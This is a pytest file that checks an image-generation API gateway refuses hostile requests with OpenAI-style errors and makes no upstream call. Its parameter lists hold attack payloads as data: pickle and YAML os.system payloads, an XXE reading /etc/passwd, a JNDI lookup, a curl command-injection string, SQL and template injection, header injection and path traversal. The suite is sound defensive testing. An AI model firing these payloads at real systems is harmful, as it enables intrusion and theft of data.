"""Hostile requests, through the gateway and the handlers: no upstream is called, and each error has OpenAI's shape.

The values that a parser refuses are in tests/unit.
"""

import gzip
import json
from collections.abc import Iterator, Sequence
from typing import Any
from urllib.parse import quote, urljoin
from uuid import uuid4

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from imagegen.domain.credentials import BearerKey
from imagegen.domain.errors import ImagegenError
from tests.conftest import UPSTREAM_KEY
from tests.support.canary import Canary
from tests.support.client import GENERATIONS, INLINE, Answer, fetched
from tests.support.in_process import URL, InProcess
from tests.support.models import read_request

IMAGES = f"/v1{GENERATIONS}"
JSON = ("Content-Type", "application/json")
GOOD = {"prompt": "an otter"}
GOOD_BODY = json.dumps(GOOD).encode()
MISSING = "gen_AAAAAAAAAAAAAAAAAAAAAA"


@pytest.fixture
def unpaid(handlers: InProcess) -> Iterator[InProcess]:
    """The handlers. The test must make no upstream call."""
    before = len(handlers.upstream.calls)
    yield handlers
    assert len(handlers.upstream.calls) == before


def key_of(service: InProcess) -> tuple[str, str]:
    return "Authorization", f"Bearer {service.local.key}"


def post_images(service: InProcess, body: bytes, *headers: tuple[str, str], target: str = IMAGES) -> Answer:
    """A request for images, with a key."""
    return service.request("POST", target, [key_of(service), *headers], body)


def refused(answer: Answer, status: int, param: str | None, code: str | None = None) -> None:
    """Asserts a short error in OpenAI's shape, without a header of the request."""
    error = answer.error
    assert (answer.status, error["param"]) == (status, param)
    assert code is None or error["code"] == code
    assert isinstance(error["type"], str)
    assert isinstance(error["code"], str | None)
    assert answer.headers["content-type"] == "application/json"
    assert not {"x-injected", "set-cookie"} & set(answer.headers)
    assert len(answer.content) < 4096


# ------------------------------------------------------------------------------------ bodies

# Spellings that other parsers accept. tests/unit/test_image_request.py has more.
NO_JSON = [
    *(b"", b"[" + GOOD_BODY + b"]", b" \t\r\n" * 25_000, GOOD_BODY[:-3], GOOD_BODY + b"\n" + GOOD_BODY),
    *(b'{"prompt":"x"/**/}', b"{prompt:1}", b"prompt: !!python/object/apply:os.system [id]", b"prompt=an+otter"),
    *(b"\x80\x04cos\nsystem\n(S'id'\ntR.", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    *(gzip.compress(GOOD_BODY, mtime=0), b"\xef\xbb\xbf" * 2 + GOOD_BODY, b"\xff" + GOOD_BODY + b"\xff"),
    *(GOOD_BODY.decode().encode(encoding) for encoding in ("utf-16", "utf-16-le", "utf-32")),
    *(b'{"prompt":"a\0b"}', b'{"prompt":"\\ud800', b'{"prompt":"\\x41"}', b'{"prompt":"x","n":-Infinity}'),
    *(b'{"prompt":"x","n":0x1}', b'{"prompt":"x","n":01}', b'{"prompt":"x","n":+1}'),
    *(b'{"prompt":"x","n":' + b"9" * 5_000 + b"}", b"[" * 100_000, b'{"a":' * 80_000),
]
BODIES: list[tuple[bytes, int, str | None]] = [
    *((body, 400, None) for body in NO_JSON),
    *((b'{"prompt":"x","n":%s}' % n, 400, "n") for n in (b"1.0", b"1e0", b"-0", b'1,"n":11', b'1,"\\u006e":11')),
    (b'{"prompt":"x","\\udc00":1}', 400, "\ufffd"),
    (b'{"prompt":' + b"[" * 200 + b"]" * 200 + b"}", 400, "prompt"),
    (b'{"prompt":"x","metadata":' + b'{"a":' * 200 + b"1" + b"}" * 201, 400, "metadata"),
    (json.dumps({**GOOD, **{f"field_{number}": number for number in range(10_000)}}).encode(), 400, "field_0"),
    (json.dumps({**GOOD, "user": "u" * 450_000}).encode(), 400, "user"),  # a record of DynamoDB holds 400 KB
    (json.dumps({"prompt": "a" * 500_000}).encode(), 400, "prompt"),
    (b"a" * 600_000, 413, None),
    (b"a" * 7_000_000, 413, None),  # Lambda takes 6 MB
    (b"a" * 11_000_000, 413, None),  # the gateway takes 10 MB
]


@pytest.mark.parametrize(("body", "status", "param"), BODIES, ids=lambda value: ascii(value)[:30])
def test_a_hostile_body_is_refused(unpaid: InProcess, body: bytes, status: int, param: str | None) -> None:
    refused(post_images(unpaid, body, JSON), status, param)


@pytest.mark.parametrize(
    "content_type",
    [
        *(None, "", "text/plain", "text/json", "*/*", "application/x-www-form-urlencoded", "application/xml"),
        *("multipart/form-data; boundary=b", "application/json-patch+json", "application/json, text/plain"),
        *("application / json", ";charset=utf-8", f"application/json{'x' * 8_000}", "\xef\xbd\x81pplication/json"),
    ],
)
def test_a_body_of_another_type_is_refused(unpaid: InProcess, content_type: str | None) -> None:
    headers = [] if content_type is None else [("Content-Type", content_type)]
    refused(post_images(unpaid, GOOD_BODY, *headers), 415, None, "unsupported_content_type")


# ------------------------------------------------------------------------------------ fields

GPT = {"model": "gpt-image-1"}
_SIZES = [
    *("0x0", "1024X1024", "1024\u00d71024", "\uff11\uff10\uff12\uff14x1024", "\u0661\u0660\u0662\u0664x1024", ""),
    *("1024x1024 ", "1024x1024\n", "+1024x1024", "0x400x0x400", "1e3x1e3", f"{'9' * 40}x{'9' * 40}", "1024x1024x1024"),
]
_BLANKS = "\t\n\v\f\r \x1c\x1d\x1e\x1f\x85\xa0\u1680\u2000\u2007\u200a\u2028\u2029\u202f\u205f\u3000"
_MODELS = [
    *("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "dall-e-3\r\nX-Injected: 1", "dall-e-3\0", " dall-e-3"),
    *("DALL-E-3", "dall-e-3\u200b", "d\u0430ll-e-3", "", "' OR '1'='1' --", "%s%n%x{0}", "{{7*7}}${7*7}#{7*7}"),
    *("${jndi:ldap://{canary}/a}", "$(curl http://{canary}/)`id`|id", "<script>alert(1)</script>", "__proto__"),
    *("http://{canary}/v1", "a" * 10_000, "*", 3, ["dall-e-3"], {"$ne": ""}),
]
_UNKNOWN_FIELDS = [
    *("__proto__", "constructor", "__class__", "$where", "$ref", "@type", "N", "prompt ", "\ufeffprompt", "", "mask"),
    *("api_key", "webhook", "callback_url", "base_url", "url", "image", "extra_body", "prompt\0", "response_format[]"),
    *("\U0001f9a6", "\u202eezis", "background", "moderation", "output_format"),
]
# The other fields, and a field with a refused value, beside a good prompt.
FIELDS: list[tuple[dict[str, str], str, Any]] = [
    *(({}, "n", n) for n in (True, "1", [1], {"$gt": 0}, -1, 11, 1.5, 2**63, 2**64, 10**400)),
    *((beside, "size", size) for size in _SIZES for beside in ({}, {"model": "gpt-image-2"})),
    *(({}, "size", size) for size in ("auto", 1024, ["1024x1024"], {"width": 1024}, "1024x1024'; DROP TABLE images")),
    *(({}, "model", model) for model in _MODELS),
    *(({}, "prompt", prompt) for prompt in (7, None, ["an otter"], "", "a" * 1001, "\U0001f9a6" * 1001, _BLANKS)),
    *(({}, "prompt", blank * 3) for blank in _BLANKS),
    *(({}, name, value) for name, value in (("quality", "HD"), ("style", "vivid\n"), ("response_format", "URL"))),
    *(({}, "user", user) for user in (7, {"id": 7})),
    *((GPT, name, value) for name, value in (("stream", True), ("output_format", "svg"), ("partial_images", 1))),
    *(({}, name, "http://{canary}/") for name in _UNKNOWN_FIELDS),
]


@pytest.mark.parametrize(("beside", "name", "value"), FIELDS, ids=lambda value: ascii(value)[:40])
def test_a_refused_field_is_named(
    unpaid: InProcess, canary: Canary, beside: dict[str, str], name: str, value: Any
) -> None:
    body = json.dumps({**GOOD, **beside, name: value}).replace("{canary}", f"127.0.0.1:{canary.port}")
    answer = post_images(unpaid, body.encode(), JSON)
    refused(answer, 400, name)
    assert answer.error["type"] == "invalid_request_error"


@pytest.mark.parametrize("name", ["model", "n", "size", "quality", "style", "response_format", "background", "user"])
def test_no_log_shows_a_bad_value(unpaid: InProcess, name: str) -> None:
    repeated = name in ("model", "size", "quality", "style", "response_format")
    value: Any = unpaid.secret("value", may_be_answered=repeated)
    if name == "user":
        value = [value]
    body = {"prompt": unpaid.secret("prompt"), name: value, unpaid.secret("field", may_be_answered=True): 1}
    assert post_images(unpaid, json.dumps(body).encode(), JSON).status == 400


@pytest.mark.parametrize(
    ("body", "status"),
    [
        *((text, 400) for text in ('{"prompt":"%s', '["%s"]', '{"prompt":["%s"]}')),
        *(('{"prompt":"%s"}' + " " * size, status) for size, status in ((600_000, 413), (7_000_000, 413))),
    ],
    ids=lambda value: str(value)[:20],
)
def test_no_answer_or_log_shows_a_refused_body(unpaid: InProcess, body: str, status: int) -> None:
    assert post_images(unpaid, (body % unpaid.secret("prompt")).encode(), JSON).status == status


# ------------------------------------------------------------------------- keys and headers

_BAD = "A" * 43
# The `Authorization` headers of a request. `{key}` is a good key of the caller `local`, `{secret}` its secret.
# tests/unit/test_credentials.py has more names and secrets that make no key.
KEYS: list[list[str]] = [
    *([], [""], [" "], ["Bearer"], ["Bearer "], ["{key}"], ["Basic dXNlcjpwYXNzd29yZA=="], ["Basic {key}"]),
    *(["Token {key}"], ['Digest username="local", response="{key}"'], ['Bearer "{key}"'], ["Bearer\t{key}"]),
    *(["Bearer {key} x"], ["Bearer {key},"], ["Bearer ig_local_wrong, Bearer {key}"], [f"Bearer ig_local_{_BAD}"]),
    *([f"Bearer ig_local_{_BAD}", "Bearer {key}"], ["", "Bearer {key}"], ["Bearer ig_other_{secret}"]),
    *([f"Bearer ig_unknown_{_BAD}"], [f"Bearer ig_../clients/local_{_BAD}"], ["Bearer ig_upstream-api-key_{secret}"]),
    *([f"Bearer {UPSTREAM_KEY}"], ["Bearer ig%5flocal%5f{secret}"], ["Bearer ig_local_\0{secret}"], ["Bearer .."]),
    *(["Bearer ig_l\xf6cal_{secret}"], [f"Bearer ig_local_{'A' * 50_000}"], ["Bearer ' OR '1'='1"]),
    *(["Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJsb2NhbCJ9."], ["Bearer ${env:AWS_SECRET_ACCESS_KEY}"]),
    *(["Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJsb2NhbCJ9.c2lnbmF0dXJl"], [f"Bearer ig_oidc:{'0' * 32}_{_BAD}"]),
]


def filled(service: InProcess, text: str) -> str:
    return text.replace("{key}", service.local.key).replace("{secret}", service.local.key.removeprefix("ig_local_"))


@pytest.mark.parametrize("authorization", KEYS, ids=lambda values: ascii(values)[:40])
def test_a_bad_key_is_refused(unpaid: InProcess, authorization: list[str]) -> None:
    headers = [("Authorization", filled(unpaid, value)) for value in authorization]
    answer = unpaid.request("POST", IMAGES, [JSON, *headers], GOOD_BODY)
    refused(answer, 401, None, "invalid_api_key")
    assert unpaid.local.key.removeprefix("ig_local_") not in answer.content.decode()


@pytest.mark.parametrize(
    ("headers", "query"),
    [
        ([("X-Api-Key", "{key}"), ("Api-Key", "{key}")], ""),
        ([("Proxy-Authorization", "Bearer {key}"), ("X-Forwarded-Authorization", "Bearer {key}")], ""),
        ([("Cookie", "Authorization=Bearer {key}; api_key={key}")], ""),
        ([], "?api_key={key}&access_token={key}&Authorization=Bearer%20{key}"),
        ([("X-Amzn-Principal-Id", "local"), ("principalId", "local")], ""),
    ],
)
def test_a_key_is_read_only_from_the_authorization_header(
    unpaid: InProcess, headers: list[tuple[str, str]], query: str
) -> None:
    sent = [JSON, *((name, filled(unpaid, value)) for name, value in headers)]
    refused(unpaid.request("POST", IMAGES + filled(unpaid, query), sent, GOOD_BODY), 401, None, "invalid_api_key")


@pytest.mark.parametrize("scheme", ["Bearer", "bearer", "Basic", "Token"])
def test_no_log_shows_a_refused_key(unpaid: InProcess, scheme: str) -> None:
    tokens = [BearerKey.new("local").key, BearerKey.new("unknown").key, f"sk-{uuid4().hex}", f"canary{uuid4().hex}"]
    tokens.append(".".join(f"eyJ{uuid4().hex}" for _ in range(3)))
    for token in tokens:
        unpaid.secret(f"key {token[:6]}", value=token)
        assert unpaid.request("GET", "/v1/models", [("Authorization", f"{scheme} {token}")]).status == 401


def test_an_unreadable_caller_record_is_refused(unpaid: InProcess) -> None:
    key = BearerKey.new(f"odd-{uuid4().hex[:8]}")
    value = f'{{"key_sha256": "{unpaid.secret("record")}'
    unpaid.aws("ssm").put_parameter(Name=f"/imagegen/clients/{key.caller}", Type="String", Value=value)
    unpaid.secret("key", value=key.key)
    assert unpaid.request("GET", "/v1/models", [("Authorization", f"Bearer {key.key}")]).status == 401


def test_a_caller_with_a_quota_of_zero_is_refused(unpaid: InProcess) -> None:
    assert unpaid.caller(images_per_day=0).post({"prompt": unpaid.secret("prompt")}).status == 429


@pytest.mark.parametrize(
    "key", ["", "x" * 256, "x" * 50_000, "a\tb", "a\0b", "\x1b[2J", "a\x7f", "\xe4", "\xf0\x9f\xa6\xa6", "a\r\n b"]
)
def test_a_bad_idempotency_key_is_refused(unpaid: InProcess, key: str) -> None:
    answer = post_images(unpaid, GOOD_BODY, JSON, ("Idempotency-Key", key))
    refused(answer, 400, "Idempotency-Key", "invalid_value")


def test_other_headers_change_nothing_and_are_not_logged(handlers: InProcess) -> None:
    secret = handlers.secret("header")
    odd = dict.fromkeys(("Cookie", "Origin", "Referer", "User-Agent", "X-Request-Id", "X-Forwarded-For"), secret)
    odd |= {"x-stainless-retry-count": secret, "Prefer": f"handling={secret}; foo, ,,;=, wait=-1, wait"}
    odd |= {"X-Forwarded-Host": "evil.example", "X-Host": "evil.example", "X-Forwarded-Prefix": "/evil"}
    odd |= {"Forwarded": "host=evil.example;proto=http", "X-Forwarded-Proto": "javascript", "X-Forwarded-Port": "1"}
    odd |= {"X-Original-URL": "/v1/models", "X-Rewrite-URL": "/health", "Accept": "text/html, image/svg+xml"}
    odd |= {"X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "TRACE", "Expect": "100-continue"}
    odd |= {"If-Match": '"x"', "If-None-Match": "*", "Range": "bytes=0-0", "Accept-Language": "*" * 1000}
    odd |= {"X-Amzn-Trace-Id": f"Root=\xe4;{secret}", "traceparent": "00-0-0-00"}
    prompt = handlers.secret("prompt", may_be_answered=True)
    answer = handlers.local.follow(post_images(handlers, json.dumps({"prompt": prompt}).encode(), JSON, *odd.items()))
    assert answer.status == 200, answer.content
    (image,) = answer.json["data"]
    assert image["permalink"] == f"{URL}/v1/images/{image['id']}"
    assert "evil" not in answer.content.decode()
    assert len(handlers.calls(prompt)) == 1
    assert post_images(handlers, GOOD_BODY, ("Content-Type", secret)).status == 415
    assert post_images(handlers, GOOD_BODY, JSON, ("Idempotency-Key", secret * 9)).status == 400


def test_the_host_of_a_later_request_does_not_change_a_permalink(handlers: InProcess) -> None:
    local, body, key = handlers.local, {"prompt": f"otter {uuid4().hex}"}, uuid4().hex
    first = local.make(body, Idempotency_Key=key, **INLINE).json
    again = local.make(body, Idempotency_Key=key, Host="evil.example").json
    seen = local.get(f"{GENERATIONS}/{first['id']}", Host="evil.example").json
    permalinks = {answer["data"][0]["permalink"] for answer in (first, again, seen)}
    assert permalinks == {f"{URL}/v1/images/{first['data'][0]['id']}"}
    assert len(handlers.calls(body["prompt"])) == 1


# -------------------------------------------------------------------------- paths and methods

_ODD_IDS = [
    *("..%2f..%2fmodels", "%2e%2e%2f%2e%2e%2fhealth", "..", "..%5c..%5chealth", "img_%00AAAAAAAAAAAAAAAAAAAA"),
    *("img_AAAAAAAAAAAAAAAAAAAAAA%0d%0aSet-Cookie:%20x=y", "img_AAAAAAAAAAAAAAAAAAAAAA%0a", "%", "%2525252e"),
    *("img_AAAAAAAAAAAAAAAAAAAAAA%2f", "%ff%fe", "%c0%ae%c0%ae", "img_" + "%D0%90" * 22, "img_" + "%EF%BC%91" * 22),
    *("img_AAAAAAAAAAAAAAAAAAAAA+", "img_" + "A" * 23, "img_" + "A" * 21, "IMG_" + "A" * 22, "*", "img_" + "A" * 8_000),
    *("img_AAAAAAAAAAAAAAAAAAAAAA.png", "'%20OR%20'1'='1", "$%7B7*7%7D%7B%7B7*7%7D%7D", "%3Cscript%3Ealert(1)"),
]
_UNKNOWN = [
    *("/v1", "/v1/", "/v2/models", "/V1/Models", "/v1//models", "/v1/./models"),
    *("/v1/images/../models", "/../../v1/models", "\\v1\\models", "/v1%2fmodels", "/v1/%6dodels", "/v1/models;x=1"),
    *("/v1/models%00", "/v1/models%0d%0aX-Injected:%201", "/v1/images/edits/x", "/v1/chat/completions", "/.env"),
    *("/cgi-bin/.%2e/.%2e/bin/sh", "/2018-06-01/runtime/invocation/next", "/_door/roles", "*", "v1/models"),
    *("http://evil.example//v1/models", "/" + "a" * 16_000, "/v1/images/img_AAAAAAAAAAAAAAAAAAAAAA/x", "/v1/images"),
    *(f"/v1/images/generations/{MISSING}/result/x", "/health/x"),
]
_POSTED = ("edits", "variations/", "descriptions", "uploads")
_NO_GENERATION = (404, "id", "generation_not_found")
_NO_IMAGE = (404, "image_id", "image_not_found")
_NO_METHOD = (405, None, "method_not_supported")
PATHS: list[tuple[str, str, int, str | None, str]] = [
    *(("GET", target, 404, None, "unknown_url") for target in _UNKNOWN),
    *((method, IMAGES, *_NO_METHOD) for method in ("PUT", "PATCH", "DELETE")),
    *((method, IMAGES, 404, None, "unknown_url") for method in ("TRACE", "CONNECT", "PROPFIND", "post", "FOO")),
    *(("POST", path, 404, None, "unknown_url") for path in ("/v1/images/edits/x", "/v1/images/variations/x/")),
    *(("GET", f"/v1/images/{path}", *_NO_IMAGE) for path in _POSTED),  # as of any id that no image has
    *(("PUT", f"/v1/images/{path}", *_NO_METHOD) for path in _POSTED),
    *(("POST", f"/v1/images/{path}", 415, None, "unsupported_content_type") for path in _POSTED),
    *(("GET", f"/v1/images/{text}", *_NO_IMAGE) for text in _ODD_IDS),
    *(("GET", f"{IMAGES}/{text.replace('img_', 'gen_')}", *_NO_GENERATION) for text in _ODD_IDS),
    *(
        (method, f"{IMAGES}/{path}", *_NO_GENERATION)
        for method, path in (
            *(("GET", MISSING), ("GET", f"{MISSING}/result"), ("POST", f"{MISSING}/result"), ("DELETE", MISSING)),
            *(("POST", f"{MISSING}/cancel"), ("DELETE", "..%2f..%2fx"), ("POST", "..%2f..%2fx/cancel")),
            *(("GET", f"img_{'A' * 22}"), ("GET", "key%23local%23x")),
        )
    ),
    *(
        ("GET", f"{IMAGES}?{query}", 400, query.partition("=")[0], "invalid_value")
        for query in (
            *("limit=0", "limit=101", "limit=-1", "limit=abc", "limit=1e3", "limit=1.0", "limit=%2B1", "limit=%D9%A1"),
            *(f"limit={'9' * 5_000}", "limit=1%0a", "limit=1&limit=0", "status=evil", "status=COMPLETED"),
            *("status=buried", "status=", f"status={'a' * 8_000}", "after=", f"after={'a' * 8_000}"),
        )
    ),
]


@pytest.mark.parametrize(("method", "target", "status", "param", "code"), PATHS, ids=lambda value: ascii(value)[:40])
def test_a_path_has_its_error(
    unpaid: InProcess, method: str, target: str, status: int, param: str | None, code: str
) -> None:
    answer = unpaid.request(method, target, [key_of(unpaid)])
    if param in ("id", "image_id") and answer.error["code"] == "unknown_url":
        param, code = None, "unknown_url"  # it does not match the route
    refused(answer, status, param, code)


@pytest.mark.parametrize(
    ("target", "allowed"),
    [
        *((path, "GET, HEAD, OPTIONS") for path in ("/v1/models", "/v1/images/img_x", "/docs", "/", "/health")),
        (IMAGES, "GET, HEAD, OPTIONS, POST"),
        (f"{IMAGES}/gen_x/cancel", "OPTIONS, POST"),
        *((f"/v1/images/{path}", "GET, HEAD, OPTIONS, POST") for path in _POSTED),
    ],
)
def test_a_refusal_of_a_method_names_the_methods_of_the_path(unpaid: InProcess, target: str, allowed: str) -> None:
    answer = unpaid.request("PATCH", target, [key_of(unpaid)])
    refused(answer, 405, None)
    assert answer.headers["allow"] == allowed


@pytest.mark.parametrize("target", ["/v1", "/v1/nothing", "/v1/images", "/v1/images/edits/x", "/v1/a/b/c"])
def test_an_unknown_path_of_the_api_needs_a_key(unpaid: InProcess, target: str) -> None:
    refused(unpaid.request("GET", target), 401, None, "invalid_api_key")


def test_a_trailing_slash_is_ignored(handlers: InProcess) -> None:
    body = json.dumps({"prompt": f"otter {uuid4().hex}"}).encode()
    at, answer = f"{IMAGES}/", post_images(handlers, body, JSON, ("Prefer", "wait=0"), target=f"{IMAGES}/")
    while answer.status == 303:
        location = urljoin(at, answer.headers["location"])
        assert location.startswith(f"{IMAGES}/gen_")
        handlers.deliver()
        at = location.replace("/result", "/result/")
        answer = handlers.request("GET", at, [key_of(handlers)])
    assert answer.status == 200, answer.content
    assert handlers.local.get("/models/").json == handlers.local.get("/models").json


@pytest.mark.parametrize("target", ["/", "http://evil.example/", "/?prefix=http://evil.example"])
def test_any_spelling_of_the_root_is_the_same_page(unpaid: InProcess, target: str) -> None:
    answer = unpaid.request("GET", target)
    assert (answer.status, answer.headers["content-type"]) == (200, "text/html; charset=utf-8")
    assert "evil.example" not in answer.content.decode() + str(answer.headers)
    assert b'"/playground.js"' in answer.content


def test_the_permalink_of_a_missing_image_leads_to_an_error_of_s3(unpaid: InProcess) -> None:
    answer = unpaid.request("GET", f"/v1/images/img_{'A' * 22}")
    assert (answer.status, answer.content) == (302, b"")
    dead = fetched(answer.headers["location"])
    assert dead.status == 403  # the api function may not list the bucket
    assert b"<Error>" in dead.content


@pytest.mark.parametrize(
    "target", ["/{}", "/v1/{}", "/v1/images/{}", "/v1/images/generations/{}", "/v1/images/edits/{}/{}"]
)
def test_no_log_shows_a_path_or_a_query(unpaid: InProcess, target: str) -> None:
    secret = unpaid.secret("path")
    for method in ("GET", "POST", "DELETE"):
        assert unpaid.request(method, target.format(secret, secret), [key_of(unpaid)]).status in (404, 405)
    for query in (f"limit={secret}", f"status={secret}", f"after={secret}", f"api_key={secret}", secret):
        assert unpaid.local.get(f"{GENERATIONS}?{query}").status in (200, 400)
    assert unpaid.local.get(f"/images/img_{secret[-22:]}").status == 302  # also if the image does not exist


# ----------------------------------------------------------------------------- other callers


@pytest.fixture(scope="module")
def existing(_in_process: InProcess) -> dict[str, Any]:
    """A generation of the caller `local`, with one image."""
    prompt = f"otter {uuid4().hex}"
    return {"prompt": prompt, **_in_process.local.make({"prompt": prompt}, Idempotency_Key=prompt, **INLINE).json}


@pytest.mark.parametrize(
    ("method", "path"),
    [
        *(("GET", ""), ("GET", "/result"), ("GET", "/result?hop=-1"), ("POST", "/result")),
        *(("POST", "/cancel"), ("DELETE", ""), ("DELETE", "?caller=local")),
    ],
)
def test_another_callers_generation_looks_missing(
    unpaid: InProcess, existing: dict[str, Any], method: str, path: str
) -> None:
    its, missing = (unpaid.other.ask(method, f"{GENERATIONS}/{each}{path}") for each in (existing["id"], MISSING))
    refused(its, *_NO_GENERATION)
    assert its.content == missing.content
    refused(unpaid.request(method, f"{IMAGES}/{existing['id']}{path}"), 401, None, "invalid_api_key")
    seen = unpaid.local.see(existing["id"]).json
    assert (seen["status"], [image["id"] for image in seen["data"]]) == ("completed", [existing["data"][0]["id"]])


def test_a_list_after_another_callers_generation_is_empty(unpaid: InProcess, existing: dict[str, Any]) -> None:
    its, missing = (unpaid.other.get(f"{GENERATIONS}?after={each}") for each in (existing["id"], MISSING))
    assert (its.status, its.content) == (missing.status, missing.content)
    assert (its.status, its.json["data"], its.json["has_more"]) == (200, [], False)
    assert existing["id"] not in its.content.decode()


def test_another_callers_idempotency_key_attaches_to_nothing(handlers: InProcess, existing: dict[str, Any]) -> None:
    prompt, before = existing["prompt"], len(handlers.calls(existing["prompt"]))
    answer = handlers.other.make({"prompt": prompt}, Idempotency_Key=prompt, x_stainless_retry_count="1")
    assert answer.status == 200
    assert answer.json["id"] != existing["id"]
    assert answer.json["data"][0]["id"] != existing["data"][0]["id"]
    assert len(handlers.calls(prompt)) == before + 1


@pytest.mark.parametrize("hop", ["-1", "999999", "abc", "1e3", "16", "%D9%A1%D9%A6", "9" * 5_000, "1&hop=abc"])
def test_a_bad_number_of_redirects_ends_the_wait(unpaid: InProcess, hop: str) -> None:
    """Otherwise a caller could be redirected without end."""
    generation_id = unpaid.local.begin(prompt="otter")
    answer = unpaid.request("GET", f"{IMAGES}/{generation_id}/result?hop={hop}", [key_of(unpaid)])
    assert answer.failed == (424, "generation_still_running")
    assert unpaid.local.cancel(generation_id).status == 200


# ------------------------------------------------------------------------- generated requests

_TEXT = st.text(max_size=20) | st.sampled_from(["http://127.0.0.1/", "file:///etc/passwd", "../..", "%00", "[::1]"])
_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | _TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
    max_leaves=8,
)
_NAMES = ["prompt", "model", "n", "size", "quality", "style", "response_format", "user", "background", "stream"]
_VALUES = _JSON | st.sampled_from(["dall-e-3", "1024x1024", "hd", "vivid", "url", 1, 2])
_FIELDS = st.dictionaries(st.sampled_from(_NAMES) | _TEXT, _VALUES, max_size=4)
_BODIES = (
    st.binary(max_size=200)
    | _JSON.map(lambda value: json.dumps(value).encode())
    | _FIELDS.map(lambda fields: json.dumps(fields).encode())
    | _FIELDS.map(lambda fields: json.dumps({**fields, "prompt": "otter"}).encode())
)
_HEADER_TEXT = st.text(st.characters(min_codepoint=1, max_codepoint=255, exclude_characters="\r\n"), max_size=40)
_through_the_gateway = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)


def is_valid(body: bytes) -> bool:
    """Returns `True` if the reader accepts the body in the gateway's form."""
    try:
        read_request(1000)(body.decode(errors="replace").encode(), "application/json")
    except ImagegenError:
        return False
    return True


@_through_the_gateway
@given(body=_BODIES)
def test_any_body_begins_a_generation_or_is_refused(handlers: InProcess, body: bytes) -> None:
    answer = post_images(handlers, body, JSON, ("Prefer", "respond-async"))
    if is_valid(body):
        assert answer.status == 202
        assert handlers.local.cancel(answer.generation_id).status == 200
    else:
        refused(answer, answer.status, answer.error["param"])
        assert 400 <= answer.status < 500


@_through_the_gateway
@given(
    method=st.sampled_from(["GET", "POST", "DELETE", "PUT", "HEAD", "PATCH"]),
    path=st.lists(_TEXT | st.sampled_from(["v1", "images", "generations", "models", "..", ".", ""]), max_size=6),
    query=st.dictionaries(st.sampled_from(["limit", "after", "status", "hop"]) | _TEXT, _TEXT.filter(bool), max_size=3),
)
def test_any_path_has_an_answer(unpaid: InProcess, method: str, path: list[str], query: dict[str, str]) -> None:
    parts = "/".join(quote(part, safe="") for part in path)
    pairs = "&".join(f"{quote(name, safe='')}={quote(value, safe='')}" for name, value in query.items())
    answer = unpaid.request(method, f"/{parts}?{pairs}", [key_of(unpaid)])
    assert answer.status < 500, answer.content
    assert answer.headers["x-request-id"]
    if answer.status >= 400 and method != "HEAD":
        refused(answer, answer.status, answer.error["param"])


@_through_the_gateway
@given(name=st.sampled_from(["Authorization", "Idempotency-Key", "Prefer", "Content-Type", "Host"]), value=_HEADER_TEXT)
def test_any_header_has_an_answer(unpaid: InProcess, name: str, value: str) -> None:
    """The body has a bad field, so there is no upstream call."""
    usual: Sequence[tuple[str, str]] = [each for each in (key_of(unpaid), JSON) if each[0] != name]
    answer = unpaid.request("POST", IMAGES, [*usual, (name, value)], b'{"prompt":"otter","n":0}')
    refused(answer, answer.status, answer.error["param"])
    assert 400 <= answer.status < 500
